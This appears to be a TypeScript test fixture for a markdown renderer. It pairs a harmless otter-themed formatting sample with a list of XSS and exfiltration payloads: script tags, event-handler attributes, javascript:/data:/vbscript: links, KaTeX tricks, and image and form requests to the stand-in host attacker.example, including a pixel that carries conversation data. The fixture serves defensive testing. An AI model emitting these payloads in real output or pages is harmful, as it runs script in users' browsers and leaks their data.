// Message texts for the rendering specs: what a model typically writes, and what an attacker would try.

export const RICH_MARKDOWN = `## Otters at a glance

Sea otters **hold hands** while sleeping, and they use *tools*. See [the notes](https://example.com/otters).

| Species | Weight (kg) | Habitat |
|---|---:|---|
| Sea otter | 14–45 | Pacific coast |
| River otter | 5–14 | Rivers and lakes |

1. Find a rock
2. Crack the shell
   - carefully
- [x] watched a documentary

\`\`\`typescript
function countOtters(raft: string[]): number {
  return raft.filter((name) => name !== "").length;
}
\`\`\`

The energy they need grows like $E = mc^2$, roughly:

$$
\\sum_{i=1}^{n} i = \\frac{n(n+1)}{2}
$$

> Otters spend most of their day grooming.
`;

// The host every hostile payload points at. Nothing may contact it unless the reader clicks an image to load it.
export const ATTACKER_HOST = "attacker.example";

// Each line tries one way to run script, open a dialog or make the browser call another host.
export const HOSTILE_MARKDOWN = `<script>window.__pwned = "script"; alert("script")</script>

<img src="https://${ATTACKER_HOST}/raw-img.png" onerror="window.__pwned = 'onerror'; alert('onerror')">

<svg onload="window.__pwned='svg'; alert('svg')"><circle r="5"/></svg>

<iframe src="https://${ATTACKER_HOST}/frame"></iframe>

<style>body { background: url("https://${ATTACKER_HOST}/css.png") }</style>

<a href="javascript:alert('raw link')">raw link</a>

<details open ontoggle="window.__pwned='toggle'; alert('toggle')"><summary>details</summary></details>

<form action="https://${ATTACKER_HOST}/form"><button>Submit form</button></form>

[markdown javascript link](javascript:window.__pwned='md-link';alert('md-link'))

[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)

[vbscript link](vbscript:msgbox(1))

[reference javascript link][evil]

[evil]: javascript:alert('reference')

![tracking pixel](https://${ATTACKER_HOST}/pixel.png?conversation=secret)

![relative pixel](//${ATTACKER_HOST}/relative.png)

![data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)

<https://${ATTACKER_HOST}/autolink>

Math link: $\\href{javascript:alert('katex')}{click}$ and $\\url{https://${ATTACKER_HOST}/url}$

Math image: $\\includegraphics[height=1em]{https://${ATTACKER_HOST}/katex.png}$

Math html: $\\htmlStyle{background:url(https://${ATTACKER_HOST}/style.png)}{x}$

Entities: &lt;script&gt;alert('entity')&lt;/script&gt;

\`\`\`html
<script>alert("inside a code block")</script>
\`\`\`
`;
